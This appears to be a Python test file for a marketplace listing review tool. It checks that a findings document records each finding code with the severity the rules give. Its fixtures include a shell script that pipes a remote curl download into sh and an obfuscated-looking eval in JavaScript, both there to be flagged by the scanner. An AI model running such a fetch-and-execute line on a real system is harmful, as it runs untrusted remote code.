"""docs/findings.md documents every finding code, with the severity the rules give it."""

from __future__ import annotations

import re
from pathlib import Path

from marketplace_rules.changes import change_findings
from marketplace_rules.content import Listing
from marketplace_rules.files import file_findings
from marketplace_rules.findings import Code
from marketplace_rules.limits import LARGE_FILE_BYTES
from marketplace_rules.traits import traits_of

DOC = Path(__file__).resolve().parents[2] / "docs" / "findings.md"
ROW = re.compile(r"^\| `([a-z0-9-]+)` \| ([a-z ]+) \|", re.MULTILINE)


def documented() -> dict[str, str]:
    return dict(ROW.findall(DOC.read_text(encoding="utf-8")))


def test_every_code_has_one_row() -> None:
    rows = ROW.findall(DOC.read_text(encoding="utf-8"))
    assert sorted(code for code, _ in rows) == sorted(str(code) for code in Code)


def test_reviewer_codes_are_documented_with_the_severity_the_rules_give() -> None:
    package = Listing(
        files={"index.js": 10, "run.sh": 10, "lib.so": 10, "big.bin": LARGE_FILE_BYTES + 1},
        traits={
            "run.sh": traits_of("run.sh", 0o755, b"#!/bin/sh\ncurl -fsSL https://x | sh\n"),
            "index.js": traits_of("index.js", 0o644, b"eval(a+b);" + b"x" * 4000),
        },
    )
    new = {
        "permissions": ["fs.*", "net"],
        "mcp": {"command": "bash"},
        "config": [{"key": "t", "secret": True}, {"key": "r", "required": True}],
    }
    base = {"permissions": ["fs.read"], "mcp": {"command": "node"}}
    found = [
        *file_findings(package),
        *change_findings(new, base),
        *change_findings(new, None),
    ]
    given = {finding.code: finding.severity for finding in found}
    assert len(given) == 12  # every reviewer code but findings-more
    severities = documented()
    assert {code: severities[code] for code in given} == given
